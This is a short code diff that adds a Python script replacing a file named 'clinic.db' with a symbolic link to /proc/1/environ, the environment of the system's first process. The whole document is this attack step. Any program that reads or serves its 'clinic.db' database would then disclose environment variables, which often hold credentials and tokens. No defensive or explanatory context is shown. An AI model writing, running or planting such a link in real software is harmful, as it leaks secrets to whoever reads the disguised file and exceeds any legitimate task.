@@ -1,0 +1,3 @@
+import os
+
+os.symlink("/proc/1/environ", "clinic.db")
